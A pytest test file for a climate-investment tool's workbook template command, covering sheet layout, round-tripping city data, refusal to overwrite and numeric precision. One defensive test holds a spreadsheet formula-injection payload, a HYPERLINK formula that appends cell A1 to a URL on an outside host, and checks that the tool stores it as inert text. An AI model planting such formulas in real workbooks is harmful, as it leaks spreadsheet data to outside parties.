"""``climateinvest template``: an empty workbook to fill in, a copy of a city, no overwriting.

A filled workbook loads to the same data as the CSV folder it was filled from.
"""
from __future__ import annotations

import csv
import io
import math
import shutil
import subprocess
import sys
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
import yaml

from climateinvest import ValidationError, load_city
from climateinvest.cli import main
from climateinvest.io.city import CityData
from climateinvest.io.city_specs import CITY, SPECS, TABLES

ROOT = Path(__file__).resolve().parents[1]
LANDSKRONA = ROOT / "data" / "landskrona"
EXEMPELSTAD = ROOT / "data" / "exempelstad"
CLI = [sys.executable, "-m", "climateinvest.cli"]


def cli(capsys, *args) -> tuple[int, str, str]:
    code = main([str(a) for a in args])
    out, err = capsys.readouterr()
    return code, out, err


def assert_same_city(a: CityData, b: CityData) -> None:
    for name in TABLES:
        pd.testing.assert_frame_equal(a.table(name), b.table(name), obj=name)
    for key in CITY.names:
        assert getattr(a, key) == getattr(b, key), key


@pytest.fixture(scope="module")
def landskrona() -> CityData:
    return load_city(LANDSKRONA)


# --- the empty template -------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def empty(tmp_path_factory) -> tuple[Path, subprocess.CompletedProcess, subprocess.CompletedProcess]:
    """``template`` then ``validate`` on it, as a user runs them."""
    folder = tmp_path_factory.mktemp("template")
    book = folder / "stad.xlsx"
    made = subprocess.run([*CLI, "template", str(book)], cwd=folder, capture_output=True,
                          text=True, check=False, timeout=300)
    checked = subprocess.run([*CLI, "validate", str(book)], cwd=folder, capture_output=True,
                             text=True, check=False, timeout=300)
    return book, made, checked


def test_template_writes_a_workbook(empty):
    book, made, _ = empty
    assert made.returncode == 0, made.stderr
    assert made.stdout.strip() == f"wrote {book}"
    assert "Traceback" not in made.stderr and book.is_file()


def test_template_has_a_sheet_per_table_with_its_header(empty):
    book, _, _ = empty
    wb = openpyxl.load_workbook(book)
    assert wb.sheetnames == ["city", *TABLES]
    for name in TABLES:
        ws = wb[name]
        header = [c.value for c in ws[1]]
        assert header == SPECS[name].names, name
        assert ws.max_row == 1, f"{name} has rows below the header"
        assert ws.freeze_panes == "A2"
    rows = [[c.value for c in row] for row in wb["city"].iter_rows()]
    assert rows[0] == ["key", "value"]
    assert [r[0] for r in rows[1:]] == CITY.names
    assert all(r[1] in (None, "") for r in rows[1:])


def test_empty_template_is_invalid_and_says_what_is_missing(empty):
    book, _, _ = empty
    with pytest.raises(ValidationError) as info:
        load_city(book)
    problems = info.value.problems
    by_text = sorted(str(p) for p in problems)
    for key, row in zip(CITY.required, range(2, 7), strict=True):
        assert f"stad.xlsx:city row {row}, key {key}: must not be empty" in by_text
    assert "stad.xlsx:measures: has no data rows: at least one row below the header is required" in by_text
    assert ("stad.xlsx:baseline_emissions: has no data rows: at least one row below the header is "
            "required") in by_text
    assert len(problems) == 7, by_text  # nothing else: no missing or unknown column, no sheet missing
    assert not any("column" in p.message for p in problems)


def test_validate_on_the_empty_template_exits_2_without_traceback(empty):
    _, _, checked = empty
    assert checked.returncode == 2
    assert "Traceback" not in checked.stderr and checked.stdout == ""
    assert checked.stderr.startswith("invalid input: 7 problems found:")
    assert "stad.xlsx:measures: has no data rows" in checked.stderr


# --- a copy of a city -----------------------------------------------------------------------------------

def test_from_city_workbook_loads_to_the_same_tables(tmp_path, capsys, landskrona):
    book = tmp_path / "landskrona.xlsx"
    code, _out, err = cli(capsys, "template", book, "--from-city", LANDSKRONA)
    assert code == 0, err
    city = load_city(book)
    assert_same_city(city, landskrona)
    assert city.label("measures") == "landskrona.xlsx:measures"
    assert city.load_notes == ()  # what we write needs no leniency to read


def test_from_city_to_a_folder_and_back(tmp_path, capsys):
    code, _, err = cli(capsys, "template", tmp_path / "copy", "--from-city", EXEMPELSTAD)
    assert code == 0, err
    assert_same_city(load_city(tmp_path / "copy"), load_city(EXEMPELSTAD))
    # and that folder again as a workbook
    code, _, err = cli(capsys, "template", tmp_path / "copy.xlsx", "--from-city", tmp_path / "copy")
    assert code == 0, err
    assert_same_city(load_city(tmp_path / "copy.xlsx"), load_city(EXEMPELSTAD))


def _typed(value: str, numeric: bool):
    """A cell as a user types it: numbers as numbers (whole ones as int), text as text."""
    if value == "" or value is None:
        return None
    if numeric:
        x = float(value)
        return int(x) if x.is_integer() else x
    return value


@pytest.mark.parametrize("city_dir", [LANDSKRONA, EXEMPELSTAD], ids=["landskrona", "exempelstad"])
def test_empty_template_filled_by_hand_equals_the_csv_folder(tmp_path, capsys, city_dir):
    """Fill the empty template the way a user does (typing or pasting the CSV rows, numbers as
    numbers, the city keys into the value column) and it loads to the CSV folder's data."""
    book = tmp_path / "filled.xlsx"
    assert cli(capsys, "template", book)[0] == 0
    wb = openpyxl.load_workbook(book)
    meta = yaml.safe_load((city_dir / "city.yaml").read_text(encoding="utf-8"))
    for row in wb["city"].iter_rows(min_row=2):
        row[1].value = meta.get(row[0].value)
    for name in TABLES:
        path = city_dir / f"{name}.csv"
        if not path.exists():
            continue
        ws = wb[name]
        header = [c.value for c in ws[1]]
        with path.open(encoding="utf-8", newline="") as f:
            for rec in csv.DictReader(f):
                ws.append([_typed(rec.get(col, ""), SPECS[name].col(col).kind != "text")
                           for col in header])
    wb.save(book)
    assert_same_city(load_city(book), load_city(city_dir))


def test_text_that_looks_like_a_formula_stays_text(tmp_path, capsys, landskrona):
    """A measure named ``=HYPERLINK(...)`` is written as text, not as a formula Excel would run,
    and reads back unchanged."""
    city = Path(shutil.copytree(LANDSKRONA, tmp_path / "city"))
    m = city / "measures.csv"
    evil = '=HYPERLINK("http://example.org/?"&A1,"click")'
    rows = list(csv.reader(io.StringIO(m.read_text(encoding="utf-8"))))
    rows[1][1] = evil
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    m.write_text(out.getvalue(), encoding="utf-8")
    source = load_city(city)
    assert source.measures.loc[0, "name"] == evil
    book = tmp_path / "c.xlsx"
    assert cli(capsys, "template", book, "--from-city", city)[0] == 0
    ws = openpyxl.load_workbook(book)["measures"]
    assert ws["B2"].value == evil and ws["B2"].data_type == "s"
    assert_same_city(load_city(book), source)


# --- never overwrite --------------------------------------------------------------------------------------

@pytest.mark.parametrize("args", [[], ["--from-city", str(LANDSKRONA)]], ids=["empty", "from-city"])
def test_existing_file_is_never_overwritten(tmp_path, capsys, args):
    book = tmp_path / "plan.xlsx"
    book.write_bytes(b"the city's own work, not to be lost")
    before = sorted(tmp_path.iterdir())
    code, _out, err = cli(capsys, "template", book, *args)
    assert code == 2
    assert f"{book} exists already" in err and "nothing was written" in err
    assert book.read_bytes() == b"the city's own work, not to be lost"
    assert sorted(tmp_path.iterdir()) == before


def test_existing_folder_is_never_overwritten(tmp_path, capsys):
    folder = Path(shutil.copytree(EXEMPELSTAD, tmp_path / "stad"))
    before = {p.name: p.read_bytes() for p in folder.iterdir()}
    code, _, err = cli(capsys, "template", folder, "--from-city", LANDSKRONA)
    assert code == 2 and "exists already" in err
    assert {p.name: p.read_bytes() for p in folder.iterdir()} == before


def test_invalid_source_city_writes_nothing(tmp_path, capsys):
    city = Path(shutil.copytree(EXEMPELSTAD, tmp_path / "city"))
    (city / "measures.csv").write_bytes(b"\x00\x01garbage")
    code, _out, err = cli(capsys, "template", tmp_path / "out.xlsx", "--from-city", city)
    assert code == 2 and "measures.csv" in err and "Traceback" not in err
    assert not (tmp_path / "out.xlsx").exists()


def test_filled_numbers_keep_full_precision(tmp_path, capsys, landskrona):
    """No rounding on the way through the workbook (floats are written and read exactly)."""
    book = tmp_path / "l.xlsx"
    assert cli(capsys, "template", book, "--from-city", LANDSKRONA)[0] == 0
    city = load_city(book)
    for name in TABLES:
        for column in city.table(name).select_dtypes("float64"):
            a, b = city.table(name)[column].to_numpy(), landskrona.table(name)[column].to_numpy()
            assert all((x == y) or (math.isnan(x) and math.isnan(y)) for x, y in zip(a, b, strict=True)), (name, column)
